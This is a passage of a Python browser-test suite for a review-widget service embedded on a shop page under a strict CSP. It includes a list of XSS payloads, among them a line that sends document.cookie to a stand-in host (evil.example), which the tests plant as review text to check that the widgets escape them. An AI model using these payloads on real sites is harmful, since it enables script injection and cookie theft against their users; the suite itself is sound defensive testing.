"""The widgets on a shop's own page, in a real headless Chromium, embedded as a shop does it.

The shop is a second origin, http://shop.test:<port>/, served by a small HTTP server on
loopback under a strict Content-Security-Policy; Reputable is the live server under another
name, http://reviews.test:<port>. Chromium maps both names to 127.0.0.1 and no other name
resolves, so every packet stays on loopback. A visit fails on a CSP violation (in the page and
in its frames), a console error, an HTTP error, a cookie or any storage, a request to a third
host, a layout shift, and on markup from a review that runs or becomes an element; where axe
runs (in a visit of its own), on any axe-core violation.
"""

import html
import threading
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import pytest

from reputable.conftest import ShopAccess, free_port, write_review
from reputable.tests.browser import CHROMIUM, CHROMIUM_ARGS, require_chromium
from reputable.tests.browser import axe_violations as document_violations

require_chromium()

from playwright.sync_api import (  # noqa: E402
    Browser,
    BrowserContext,
    ConsoleMessage,
    Frame,
    Page,
    Response,
    sync_playwright,
)

pytestmark = pytest.mark.django_db(transaction=True)

DATA = Path(__file__).resolve().parent / "data"
ELEMENTS = (DATA / "elements.js").read_text()
CORPUS = Path(__file__).resolve().parents[2] / "tests" / "data" / "xss_payloads.txt"
SHOP_HOST = "shop.test"
REPUTABLE_HOST = "reviews.test"
WIDGETS = "reputable-stars, reputable-badge, reputable-reviews, reputable-carousel"
JSON_LD = "script[type='application/ld+json']"
TEAS = {"TEA-1": {"name": "Green tea", "gtin": "4006381333931", "brand": "Alice Teas"}, "TEA-2": {"name": "Black tea"}}
SKUS = ["TEA-1", "TEA-2", "NO-SUCH-TEA"]
# The height a shop gives each framed widget (the README's): the box widgets.css reserves for
# the custom element; stars are one 24-pixel line per product, reviews 236 + 124 per review.
FRAME_HEIGHTS = {"stars": 24, "badge": 112, "reviews": 856, "carousel": 276}


# --- the shop's server, the browser, what a visit saw ----------------------------------------------


@dataclass
class ShopSite:
    """The shop's web server: `pages` maps a path to the HTML it answers, under `csp`."""

    port: int
    pages: dict[str, str] = field(default_factory=dict)
    csp: str = ""

    @property
    def origin(self) -> str:
        return f"http://{SHOP_HOST}:{self.port}"


SHOP_CSS = b"""body{margin:0;font:16px/1.5 system-ui,sans-serif;color:#1f2328;background:#fff}
main{max-width:900px;margin:0 auto;padding:16px}
iframe{display:block;border:0;width:100%;max-width:700px}
iframe.rp-frame-stars{width:280px}iframe.rp-frame-badge{width:240px}
.below{height:400px;border-top:1px solid #888}
.grows.grown{height:60px}
"""


@pytest.fixture(scope="module")
def shop_site() -> Iterator[ShopSite]:
    site = ShopSite(port=free_port())

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = self.path.split("?")[0]
            if path == "/shop.css":
                self.answer(200, SHOP_CSS, "text/css; charset=utf-8")
            elif path == "/tracking.css":  # for the harness's own test
                self.answer(200, b"", "text/css; charset=utf-8", cookie="visitor=1")
            elif path in site.pages:
                self.answer(200, site.pages[path].encode(), "text/html; charset=utf-8", csp=site.csp)
            else:
                self.answer(404, b"", "text/plain")

        def answer(self, status: int, body: bytes, content_type: str, csp: str = "", cookie: str = "") -> None:
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            if cookie:
                self.send_header("Set-Cookie", cookie)
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Cache-Control", "no-store")
            if csp:
                self.send_header("Content-Security-Policy", csp)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", site.port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield site
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def browser(live_server: Any, shop_site: ShopSite, sync_database_calls: None) -> Iterator[Browser]:
    reputable = f"http://{REPUTABLE_HOST}:{live_server.thread.port}"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=[
                *CHROMIUM_ARGS,
                # Both names are this machine; no other name resolves, so nothing leaves it.
                f"--host-resolver-rules=MAP {SHOP_HOST} 127.0.0.1, MAP {REPUTABLE_HOST} 127.0.0.1, MAP * ~NOTFOUND",
                # Secure contexts, as over https in production (where COOP applies, for one).
                f"--unsafely-treat-insecure-origin-as-secure={shop_site.origin},{reputable}",
            ],
        )
        yield browser
        browser.close()


@dataclass
class Reputable:
    """Reputable as the shop's visitors reach it (`origin`), and as the shop's own server
    reaches it (`loopback`)."""

    origin: str
    loopback: str

    def fetch(self, path: str) -> str:
        """What a server-side include or proxy on the shop's server gets from Reputable."""
        with urllib.request.urlopen(self.loopback + path, timeout=10) as response:
            return response.read().decode()


def shop_policy(reputable_origin: str) -> str:
    """The shop's Content-Security-Policy: its own strict baseline, and Reputable's origin in
    exactly the directives the widgets need (what the README tells a shop to add)."""
    return "; ".join(
        [
            "default-src 'self'",
            f"script-src 'self' {reputable_origin}",
            f"style-src 'self' {reputable_origin}",
            f"connect-src 'self' {reputable_origin}",
            f"frame-src 'self' {reputable_origin}",
            f"img-src 'self' {reputable_origin}",
            "object-src 'none'",
            "base-uri 'none'",
        ]
    )


@pytest.fixture
def reputable(live_server: Any, settings: Any, shop_site: ShopSite) -> Reputable:
    port = live_server.thread.port
    origin = f"http://{REPUTABLE_HOST}:{port}"
    settings.BASE_URL = origin  # the absolute links in fragments and frames
    settings.ALLOWED_HOSTS = [*settings.ALLOWED_HOSTS, REPUTABLE_HOST]
    shop_site.csp = shop_policy(origin)
    shop_site.pages.clear()
    return Reputable(origin=origin, loopback=f"http://127.0.0.1:{port}")


# The layout shifts so far, for a page without script, where no observer ran from the start:
# the browser keeps them, and a buffered observer has them at once.
SHIFTS_SO_FAR = """() => {
  const observer = new PerformanceObserver(() => {});
  observer.observe({type: "layout-shift", buffered: true});
  return observer.takeRecords().filter((e) => !e.hadRecentInput).map((e) => e.value);
}"""

# What a document keeps: cookie, local and session storage, databases. Nothing; a frame of a
# third party may be denied storage outright, which keeps nothing too.
STORAGE = """async () => {
  const read = async (f) => { try { return await f(); } catch { return "denied"; } };
  return [
    await read(() => document.cookie),
    await read(() => localStorage.length),
    await read(() => sessionStorage.length),
    await read(async () => (await indexedDB.databases()).length),
  ];
}"""
KEPT_NOTHING = ("", 0, "denied")


@dataclass
class Visit:
    """One browser context with one page, and everything it saw."""

    context: BrowserContext
    page: Page
    origins: list[str]  # the shop's and Reputable's: the only ones it may talk to
    options: dict[str, Any]  # the context's
    requests: list[str] = field(default_factory=list)
    responses: list[Response] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    navigations: list[str] = field(default_factory=list)

    @property
    def scripted(self) -> bool:
        return bool(self.options.get("java_script_enabled", True))

    def on_console(self, message: ConsoleMessage) -> None:
        # The browser's own look for a site icon is no request of the page's.
        if message.type == "error" and not message.location["url"].endswith("/favicon.ico"):
            self.console.append(f"{message.text} ({message.location['url']})")

    def goto(self, url: str) -> None:
        response = self.page.goto(url)
        assert response is not None and response.ok, url

    def frames(self) -> list[Frame]:
        return [frame for frame in self.page.frames if frame.url.startswith("http")]

    def elements(self) -> list[dict[str, Any]]:
        return [frame.evaluate(ELEMENTS, self.origins) for frame in self.frames()]

    def problems(self) -> list[str]:
        """All that went wrong so far: the empty list when nothing did."""
        hosts = {urlsplit(origin).netloc for origin in self.origins}
        found = [f"console: {text}" for text in self.console]
        found += [f"request to {url}" for url in self.requests if urlsplit(url).netloc not in hosts]
        for response in self.responses:
            if response.status >= 400:
                found.append(f"HTTP {response.status} from {response.url}")
            if response.header_value("set-cookie") is not None:
                found.append(f"Set-Cookie from {response.url}")
        found += [f"cookie {cookie['name']} of {cookie['domain']}" for cookie in self.context.cookies()]
        found += [f"storage of {origin['origin']}" for origin in self.context.storage_state()["origins"]]
        for frame in self.frames():
            where = frame.url
            if self.scripted:
                seen = frame.evaluate("() => window.__harness")
                found += [f"CSP violation in {where}: {text}" for text in seen["csp"]]
                found += [f"ran {text}" for text in seen["calls"]]
                found += [f"wrote {text} in {where}" for text in seen["storage"]]
                found += [
                    f"layout shift {shift['value']:.4f} in {where} of {shift['sources']}"
                    for shift in seen["shifts"]
                    if not shift["input"]
                ]
                kept = frame.evaluate(STORAGE)
                if any(value not in KEPT_NOTHING for value in kept):
                    found.append(f"kept in {where}: cookie, local, session, databases = {kept}")
            else:
                found += [f"layout shift {value:.4f} in {where}" for value in frame.evaluate(SHIFTS_SO_FAR)]
            markup = frame.evaluate(ELEMENTS, self.origins)["bad"]
            found += [f"markup from a review in {where}: {text}" for text in markup]
        return found


type OpenVisit = Callable[..., Visit]


@pytest.fixture
def visit(browser: Browser, reputable: Reputable, shop_site: ShopSite) -> Iterator[OpenVisit]:
    """`visit(**context_options)`: a new browser context and its page, watched."""
    contexts: list[BrowserContext] = []

    def open_visit(**options: Any) -> Visit:
        context = browser.new_context(locale="en-GB", **options)
        contexts.append(context)
        if options.get("java_script_enabled", True):
            context.add_init_script(path=DATA / "harness.js")
        page = context.new_page()
        page.set_default_timeout(10_000)
        seen = Visit(context=context, page=page, origins=[shop_site.origin, reputable.origin], options=options)
        context.on("request", lambda request: seen.requests.append(request.url))
        context.on("response", lambda response: seen.responses.append(response))
        page.on("console", seen.on_console)
        page.on("pageerror", lambda error: seen.console.append(str(error)))
        page.on("framenavigated", lambda f: seen.navigations.append(f.url) if f == page.main_frame else None)
        return seen

    yield open_visit
    for context in contexts:
        context.close()


def assert_none(found: list[str]) -> None:
    """Fails with each of `found` on a line of its own."""
    assert found == [], "\n".join(["", *found])


def axe_violations(frame: Frame) -> list[str]:
    """axe-core's violations in one document (see reputable.tests.browser). A widget's frame
    is part of the shop's page, not a page of its own: that a page has a level-one heading is
    the shop's affair."""
    return document_violations(frame, disabled=("page-has-heading-one",) if frame.parent_frame else ())


def every_axe_violation(seen: Visit) -> list[str]:
    """axe's violations in the page and in each of its frames, for a visit of its own opened
    with `bypass_csp=True`: axe sets style attributes as it measures, which a strict CSP
    refuses (and would report)."""
    assert seen.options.get("bypass_csp"), "axe needs a visit of its own, with bypass_csp=True"
    return [line for frame in seen.frames() for line in axe_violations(frame)]


# --- the shop's pages ------------------------------------------------------------------------------


def shop_page(title: str, body: str, *, head: str = "") -> str:
    return f"""<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{html.escape(title)}</title>
<link rel="stylesheet" href="/shop.css">
{head}
</head>
<body>
<header><p>Alice Teas: tea by post</p></header>
<main>
<h1>{html.escape(title)}</h1>
{body}
<p class="below">Content below the widgets: it would move if a widget's box changed.</p>
</main>
</body>
</html>"""


def loader_head(reputable: Reputable) -> str:
    """What the README has a shop put into its <head> for the loader."""
    return (
        f'<link rel="stylesheet" href="{reputable.origin}/w/widgets.css">\n'
        f'<script type="module" src="{reputable.origin}/w/embed.js"></script>'
    )


def element(tag: str, **attributes: str) -> str:
    attrs = "".join(f' {name}="{html.escape(value)}"' for name, value in attributes.items())
    return f"<reputable-{tag}{attrs}></reputable-{tag}>"


def frame_url(reputable: Reputable, shop_site: ShopSite, slug: str, widget: str, **params: Any) -> str:
    query = urlencode({**params, "origin": shop_site.origin}, doseq=True)
    return f"{reputable.origin}/w/{quote(slug)}/frame/{widget}?{query}"


def iframe(src: str, widget: str, title: str, height: int) -> str:
    attrs = f'class="rp-frame-{widget}" src="{html.escape(src)}" title="{html.escape(title)}" height="{height}"'
    return f"<iframe {attrs}></iframe>"


def framed_widgets(reputable: Reputable, shop_site: ShopSite, slug: str, **options: str) -> str:
    def framed(widget: str, title: str, height: int, **params: Any) -> str:
        return iframe(frame_url(reputable, shop_site, slug, widget, **params, **options), widget, title, height)

    return "\n".join(
        [
            framed("stars", "Ratings of our teas", FRAME_HEIGHTS["stars"] * len(SKUS), sku=SKUS),
            framed("badge", "Our reviews", FRAME_HEIGHTS["badge"]),
            framed("reviews", "Reviews of green tea", FRAME_HEIGHTS["reviews"], sku="TEA-1"),
            framed("reviews", "Reviews of our shop", FRAME_HEIGHTS["reviews"]),
            framed("carousel", "Recent reviews", FRAME_HEIGHTS["carousel"]),
        ]
    )


def every_widget(reputable: Reputable, shop_site: ShopSite, slug: str, **options: str) -> str:
    """Each widget through the loader, then each in an iframe, and the seal as an image."""
    stars = "".join(f"<li>{sku}: {element('stars', shop=slug, sku=sku, **options)}</li>" for sku in SKUS)
    return f"""<section><h2>Through the loader</h2>
<ul>{stars}</ul>
{element("badge", shop=slug, **options)}
<h3>Green tea</h3>
{element("reviews", shop=slug, sku="TEA-1", **options)}
<h3>Our shop</h3>
{element("reviews", shop=slug, **options)}
{element("carousel", shop=slug, **options)}
</section>
<section><h2>In frames</h2>
{framed_widgets(reputable, shop_site, slug, **options)}
<img src="{reputable.origin}/w/{slug}/badge.svg?lang=en" width="240" height="92" alt="Alice Teas on Reputable">
</section>"""


def open_shop_page(seen: Visit, shop_site: ShopSite, path: str = "/") -> None:
    """Until every widget on the page shows its content and every frame has loaded."""
    seen.goto(shop_site.origin + path)
    seen.page.wait_for_function(
        f"""() => [...document.querySelectorAll("{WIDGETS}")].every((w) => w.shadowRoot?.querySelector(".rp"))"""
    )
    seen.page.wait_for_load_state("load")


def iframe_heights(page: Page) -> list[int]:
    return page.evaluate("() => [...document.querySelectorAll('iframe')].map((f) => Number(f.height))")


def content_heights(seen: Visit) -> list[float]:
    """How tall the content of each of the page's frames is."""
    height = "() => document.documentElement.getBoundingClientRect().height"
    return [frame.evaluate(height) for frame in seen.frames() if frame.parent_frame is not None]


@pytest.fixture
def reviewed(alice: ShopAccess, now: Any) -> ShopAccess:
    """Alice's shop with seven reviews (two pages in the reviews widget), five of them of
    green tea (5, 4, 1, 5, 4 stars), one of black tea; no review of NO-SUCH-TEA."""
    reviews = [
        (5, "Superb", "Arrived in two days, well packed.", {"TEA-1": (5, "Fresh and fragrant")}),
        (4, "Good", "Fine.", {"TEA-1": (4, "Tasty"), "TEA-2": (2, "Weak")}),
        (2, "Late", "The parcel took two weeks.", {"TEA-1": (1, "Stale")}),
        (5, "Lovely", "", {"TEA-1": (5, "")}),
        (3, "", "Average shop.", {}),
        (4, "Quick", "Ordered Monday, here Tuesday.", {"TEA-1": (4, "Good value")}),
        (1, "Broken", "The tin was dented.", {}),
    ]
    for n, (stars, title, body, products) in enumerate(reviews, start=1):
        write_review(alice, str(n), stars, title=title, body=body, products=products, product_details=TEAS)
    return alice


@pytest.fixture
def widget_page(reviewed: ShopAccess, reputable: Reputable, shop_site: ShopSite) -> str:
    """The shop's page with every widget, in English, through the loader and in frames."""
    body = every_widget(reputable, shop_site, reviewed.shop.slug, lang="en")
    shop_site.pages["/"] = shop_page("Green tea", body, head=loader_head(reputable))
    return shop_site.origin + "/"


# --- the harness sees what it fails on ------------------------------------------------------------


def grow_the_box_after_the_first_paint(seen: Visit) -> None:
    """Grows the page's `.grows` box after the content below it was painted, and paints again.

    Grown by the test and painted by taking screenshots, never waited for by polling in the page:
    without script the page runs no timers, so a poll there is checked once and never again, and
    a shift painted a moment after that first check is never seen. With script, the harness's
    observer is told of the shift in a task of its own, which is waited for.
    """
    seen.page.screenshot()
    seen.page.evaluate("() => document.querySelector('.grows').classList.add('grown')")
    seen.page.screenshot()
    if seen.scripted:
        seen.page.wait_for_function("() => window.__harness.shifts.length > 0")


def test_the_harness_sees_a_csp_violation_a_layout_shift_and_cookies_with_and_without_script(
    reputable: Reputable, shop_site: ShopSite, visit: OpenVisit
) -> None:
    # A style attribute, which the shop's CSP refuses, a box that grows above the content after
    # the first paint, and a stylesheet that sets a cookie.
    bad = '<p style="color:red">Inline style</p><div class="grows"></div>'
    shop_site.pages["/"] = shop_page("Bad page", bad, head='<link rel="stylesheet" href="/tracking.css">')
    seen = visit()
    seen.goto(shop_site.origin + "/")
    grow_the_box_after_the_first_paint(seen)
    seen.page.evaluate("() => { document.cookie = 'tracked=1'; }")

    problems = "\n".join(seen.problems())
    assert "CSP violation in http://shop.test" in problems and "style-src-attr blocked inline" in problems
    assert "console: Applying inline style violates" in problems
    assert "layout shift" in problems
    assert "wrote document.cookie = tracked=1" in problems and "cookie tracked of shop.test" in problems
    assert f"Set-Cookie from {shop_site.origin}/tracking.css" in problems and "cookie visitor of shop.test" in problems
    # Without script, the console still tells of the violation and the browser of the shift.
    seen = visit(java_script_enabled=False)
    seen.goto(shop_site.origin + "/")
    grow_the_box_after_the_first_paint(seen)
    problems = "\n".join(seen.problems())
    assert "console: Applying inline style violates" in problems
    assert "layout shift" in problems


# --- every widget on a shop's page --------------------------------------------------------------------


def test_every_widget_loads_on_a_strict_shop_page_without_csp_violations_shifts_cookies_or_other_hosts(
    widget_page: str, shop_site: ShopSite, visit: OpenVisit
) -> None:
    seen = visit()
    open_shop_page(seen, shop_site)

    assert_none(seen.problems())
    assert {urlsplit(url).netloc for url in seen.requests} == {urlsplit(origin).netloc for origin in seen.origins}
    assert len(seen.frames()) == 6  # the page and its five framed widgets


def test_every_widget_passes_axe_on_the_shop_page_and_in_its_frames(
    widget_page: str, shop_site: ShopSite, visit: OpenVisit
) -> None:
    seen = visit(bypass_csp=True)
    open_shop_page(seen, shop_site)

    assert_none(every_axe_violation(seen))


def test_each_widget_fills_exactly_the_box_the_page_reserved_for_it(
    widget_page: str, shop_site: ShopSite, visit: OpenVisit
) -> None:
    seen = visit()
    open_shop_page(seen, shop_site)

    # Through the loader: the element's box (from widgets.css, before the content came) is the
    # content's box, and nothing inside overflows it.
    boxes = seen.page.evaluate(
        f"""() => [...document.querySelectorAll("{WIDGETS}")].map((w) => {{
          const root = w.shadowRoot.querySelector(".rp"), box = w.getBoundingClientRect();
          const content = root.getBoundingClientRect();
          return {{widget: w.localName, sku: w.getAttribute("sku"),
            reserved: [box.width, box.height], rendered: [content.width, content.height],
            overflows: root.scrollWidth > root.clientWidth || root.scrollHeight > root.clientHeight}};
        }})"""
    )
    assert [box for box in boxes if box["reserved"] != box["rendered"] or box["overflows"]] == []
    reserved = {(box["widget"], box["sku"]): box["reserved"] for box in boxes}
    assert reserved[("reputable-reviews", "TEA-1")][1] == reserved[("reputable-reviews", None)][1] == 856
    assert reserved[("reputable-stars", "NO-SUCH-TEA")] == [280, 24]
    # In frames: the height the shop gave is the height of the content.
    assert iframe_heights(seen.page) == content_heights(seen) == [72, 112, 856, 856, 276]


def test_the_product_reviews_widget_puts_its_json_ld_into_the_shop_pages_light_dom(
    widget_page: str, shop_site: ShopSite, visit: OpenVisit
) -> None:
    seen = visit()
    open_shop_page(seen, shop_site)

    blocks = seen.page.evaluate(
        f"""() => [...document.querySelectorAll("{JSON_LD}")].map((s) => [
          `${{s.parentElement.localName}}[sku=${{s.parentElement.getAttribute("sku")}}]`,
          JSON.parse(s.textContent),
        ])"""
    )
    assert [parent for parent, _data in blocks] == ["reputable-reviews[sku=TEA-1]"]
    data = blocks[0][1]
    assert (data["@type"], data["name"], data["sku"]) == ("Product", "Green tea", "TEA-1")
    assert data["aggregateRating"]["reviewCount"] == 5
    assert len(data["review"]) == 5


def test_the_reviews_widget_follows_its_filter_sort_and_pages_in_place_without_leaving_the_page(
    widget_page: str, shop_site: ShopSite, visit: OpenVisit
) -> None:
    seen = visit()
    open_shop_page(seen, shop_site)
    product = seen.page.locator("reputable-reviews[sku='TEA-1']")
    shop = seen.page.locator("reputable-reviews:not([sku])")

    product.locator(".rp-bars a").first.click()  # the five-star bar, in the shadow root
    product.locator(".rp-filter").wait_for()
    assert product.locator(".rp-review").count() == 2
    assert product.locator(".rp-bars a[aria-current]").count() == 1
    product.get_by_role("link", name="Lowest").click()
    product.locator(".rp-sort a[aria-current]", has_text="Lowest").wait_for()
    shop.get_by_role("link", name="Older reviews").click()
    shop.get_by_text("Page 2 of 2").wait_for()
    assert shop.locator(".rp-review").count() == 2

    assert seen.page.url == widget_page and seen.navigations == [widget_page]
    assert seen.page.locator(JSON_LD).count() == 1  # replaced, not added to
    assert_none(seen.problems())


# Resolves once the page's window receives "mark": messages from one window to another arrive
# in order, so a message posted before the mark has been handled by then.
AWAIT_MARK = """() => { window.marked = new Promise((done) =>
  addEventListener("message", (e) => e.data === "mark" && done())); }"""
POST_AND_MARK = """(height) => {
  parent.postMessage({reputableHeight: height}, "*");
  parent.postMessage("mark", "*");
}"""


def test_a_framed_widget_takes_its_content_height_by_postmessage_from_its_own_frame_only(
    reviewed: ShopAccess, reputable: Reputable, shop_site: ShopSite, visit: OpenVisit
) -> None:
    slug = reviewed.shop.slug
    # A shop that got the heights wrong, one too small and one too tall, and a frame of its own.
    frames = iframe(frame_url(reputable, shop_site, slug, "badge", lang="en"), "badge", "Our reviews", 10)
    frames += iframe(frame_url(reputable, shop_site, slug, "reviews", lang="en"), "reviews", "Our shop", 1200)
    frames += iframe("/offer", "offer", "Our offer", 50)
    shop_site.pages["/"] = shop_page("Frames", frames, head=loader_head(reputable))
    shop_site.pages["/offer"] = shop_page("Offer", "<p>Two for one.</p>")
    seen = visit()
    seen.goto(shop_site.origin + "/")
    seen.page.wait_for_load_state("load")
    badge, reviews, offer = seen.frames()[1:]
    assert content_heights(seen)[:2] == [112, 856]

    seen.page.wait_for_function(
        "() => [...document.querySelectorAll('iframe')].map((f) => f.height).join() == '112,856,50'"
    )
    # The content below moved as the frames took their heights: the layout shift is seen.
    assert any(problem.startswith("layout shift") for problem in seen.problems())
    # A height from another origin than Reputable's is ignored, one from the shop's own window too...
    seen.page.evaluate(AWAIT_MARK)
    offer.evaluate(POST_AND_MARK, 3)
    seen.page.evaluate("() => window.marked")
    seen.page.evaluate(AWAIT_MARK)
    seen.page.evaluate(POST_AND_MARK.replace("parent.", ""), 3)
    seen.page.evaluate("() => window.marked")
    assert iframe_heights(seen.page) == [112, 856, 50]
    # ... and one from a frame of Reputable's sets that frame's height only.
    seen.page.evaluate(AWAIT_MARK)
    badge.evaluate(POST_AND_MARK, 500)
    seen.page.evaluate("() => window.marked")
    assert iframe_heights(seen.page) == [500, 856, 50]


# The background and text colours of each widget's box, in shadow roots and in frames.
COLOURS = """() => {
  const roots = [document, ...[...document.querySelectorAll("*")].map((el) => el.shadowRoot).filter(Boolean)];
  return roots.flatMap((root) => [...root.querySelectorAll(".rp-badge, .rp-panel, .rp-stars.rp")])
    .map((box) => [box.className, getComputedStyle(box).backgroundColor, getComputedStyle(box).color]);
}"""


def widget_colours(seen: Visit) -> list[list[str]]:
    return [colour for frame in seen.frames() for colour in frame.evaluate(COLOURS)]


def test_in_dark_mode_the_widgets_change_colour_and_still_pass_axe(
    widget_page: str, shop_site: ShopSite, visit: OpenVisit
) -> None:
    seen = visit(color_scheme="dark")
    open_shop_page(seen, shop_site)
    dark = widget_colours(seen)
    seen.page.emulate_media(color_scheme="light")
    light = widget_colours(seen)

    # Through the loader three stars, the seal, three panels; in frames one stars (of three
    # products), the seal, three panels.
    assert len(dark) == len(light) == 12
    assert [(d, l) for d, l in zip(dark, light, strict=True) if d[1] == l[1] or d[2] == l[2]] == []  # noqa: E741
    assert [colours for colours in dark if colours[1:] != ["rgb(22, 24, 29)", "rgb(230, 230, 230)"]] == []
    assert_none(seen.problems())
    checked = visit(color_scheme="dark", bypass_csp=True)
    open_shop_page(checked, shop_site)
    assert_none(every_axe_violation(checked))


def test_without_javascript_server_side_included_fragments_show_styled_without_shifts_and_pass_axe(
    reviewed: ShopAccess, reputable: Reputable, shop_site: ShopSite, visit: OpenVisit
) -> None:
    slug = reviewed.shop.slug
    # The shop's server includes the fragments in its page, as SSI or a proxy would.
    stars = "".join(f"<li>{sku}: {reputable.fetch(f'/w/{slug}/stars?sku={sku}')}</li>" for sku in SKUS)
    included = [reputable.fetch(f"/w/{slug}/{path}") for path in ("badge", "reviews?sku=TEA-1", "reviews", "carousel")]
    body = f"<ul>{stars}</ul>" + "".join(f"<div>{fragment}</div>" for fragment in included)
    body += framed_widgets(reputable, shop_site, slug)
    head = f'<link rel="stylesheet" href="{reputable.origin}/w/widgets.css">'
    shop_site.pages["/"] = shop_page("Green tea", body, head=head)
    seen = visit(java_script_enabled=False)
    seen.goto(shop_site.origin + "/")
    seen.page.wait_for_load_state("load")
    seen.page.screenshot()  # a frame painted after the load, so that a late shift would be seen

    radius = seen.page.evaluate("() => getComputedStyle(document.querySelector('.rp-panel')).borderTopLeftRadius")
    assert radius == "10px"  # styled by widgets.css
    assert seen.page.locator(JSON_LD).count() == 1
    assert_none(seen.problems())
    # axe needs script to run; the page has none of its own, so with script it is the same page.
    checked = visit(bypass_csp=True)
    checked.goto(shop_site.origin + "/")
    checked.page.wait_for_load_state("load")
    assert_none(every_axe_violation(checked))


PROFILE_PAGES = (
    "/s/{slug}/?lang=en",
    "/s/{slug}/?lang=en&stars=4,5&sort=lowest&q=fresh",
    "/s/{slug}/?lang=en&sku=TEA-1",
    "/s/{slug}/?lang=de&stars=1,2",
    "/s/{slug}/how-reviews-work?lang=en",
)


def test_the_profile_with_filters_and_how_reviews_work_load_under_their_csp_and_pass_axe(
    reviewed: ShopAccess, reputable: Reputable, visit: OpenVisit
) -> None:
    seen, checked = visit(), visit(bypass_csp=True)
    violations = []
    for path in PROFILE_PAGES:
        url = reputable.origin + path.format(slug=reviewed.shop.slug)
        seen.goto(url)
        checked.goto(url)
        violations += every_axe_violation(checked)

    assert_none(seen.problems())
    assert_none(violations)


# --- hostile text in the browser ---------------------------------------------------------------------

# A subset of the corpus (reputable/tests/data/xss_payloads.txt, all of which the HTML-level
# test reads) covering its kinds: script blocks and breakouts (of JSON-LD too), event handlers,
# SVG and MathML namespace confusion, script URLs and refreshes, attribute breakouts, entities
# and escapes, template syntax, style injection, direction overrides, astral characters.
XSS_PICKS = [
    *r"""<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<script>fetch('//evil.example/?c='+document.cookie)</script>
</script><script>alert(1)</script>
"}</script><script>alert(1)</script>
{"@context":"https://schema.org","@type":"Review","name":"</script><script>alert(1)</script>"}
"}, "author": {"@type": "Person", "name": "injected"}, "x": {"y": "
<!--<script>
</title><script>alert(1)</script>
</template><script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<iframe onload=alert(1)>
<body onload=alert(1)>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
javascript:alert(1)
<a href="javascript:alert(1)">x</a>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<base href="javascript:alert(1)//">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
https://shop.example/"onmouseover="alert(1)
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
" autofocus onfocus="alert(1)
` onmouseover=alert(1) `
&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;
\u003c/script\u003e\u003cscript\u003ealert(1)\u003c/script\u003e
{{constructor.constructor('alert(1)')()}}
</style><style>body{background:red}</style>
'"-->]]>*/</script></style></title></textarea><svg onload=alert(1)>
😀<script>alert(1)</script>😀""".splitlines(),
    "\u202ealert(1)\u202d",  # a direction override, written escaped
]
# The elements our widgets and the profile write where review text is shown (inside widget
# content, the profile's reviews, headings and search form): a payload's element would be new.
CONTENT_TAGS = {
    "a", "article", "br", "button", "div", "footer", "h3", "header", "input", "label", "li", "ol", "p", "path",
    "rect", "script", "section", "span", "strong", "svg", "time", "ul",
}  # fmt: skip


@dataclass
class Hostile:
    """Two shops whose reviews carry the payloads, half each (a widget lists up to 20)."""

    shops: list[ShopAccess]
    payloads: dict[str, list[str]]  # slug -> its payloads
    skus: dict[str, list[str]]  # slug -> its payloads' products


@pytest.fixture
def hostile(alice: ShopAccess, charlie: ShopAccess, now: Any) -> Hostile:
    corpus = set(CORPUS.read_text().splitlines())
    assert [payload for payload in XSS_PICKS if payload not in corpus] == []
    shops = [alice, charlie]
    found = Hostile(shops=shops, payloads={s.shop.slug: [] for s in shops}, skus={s.shop.slug: [] for s in shops})
    for n, payload in enumerate(XSS_PICKS):
        shop = shops[n % 2]
        sku = payload[:100] if payload[:100].strip() == payload[:100] else f"SKU-{n}"
        write_review(
            shop,
            f"x{n}",
            1 + n % 5,
            title=payload[:120],
            body=payload,
            # The payload's own product, named by it, and green tea, which every review rates.
            products={sku: (1 + (n + 2) % 5, payload), "TEA-1": (1 + n % 5, payload)},
            product_details={sku: {"name": payload, "brand": payload[:100]}, **TEAS},
            customer={"first_name": payload[:100]},
        )
        found.payloads[shop.shop.slug].append(payload)
        found.skus[shop.shop.slug].append(sku)
    return found


def hostile_loader_page(reputable: Reputable, hostile: Hostile) -> str:
    parts = []
    for slug, skus in hostile.skus.items():
        stars = "".join(f"<li>{element('stars', shop=slug, sku=sku, lang='en')}</li>" for sku in [*skus, "TEA-1"])
        parts.append(f"<h2>{slug}</h2><ul>{stars}</ul>" + element("badge", shop=slug, lang="en"))
        parts += [element("reviews", shop=slug, sku="TEA-1", limit="20", lang="en")]
        parts += [element("reviews", shop=slug, limit="20", lang="en"), element("carousel", shop=slug, limit="20")]
        parts += [element("reviews", shop=slug, sku=sku, limit="1", lang="en") for sku in skus]
    return shop_page("Hostile reviews", "\n".join(parts), head=loader_head(reputable))


def hostile_frames_page(reputable: Reputable, shop_site: ShopSite, hostile: Hostile) -> str:
    def framed(slug: str, widget: str, height: int, **params: Any) -> str:
        src = frame_url(reputable, shop_site, slug, widget, lang="en", **params)
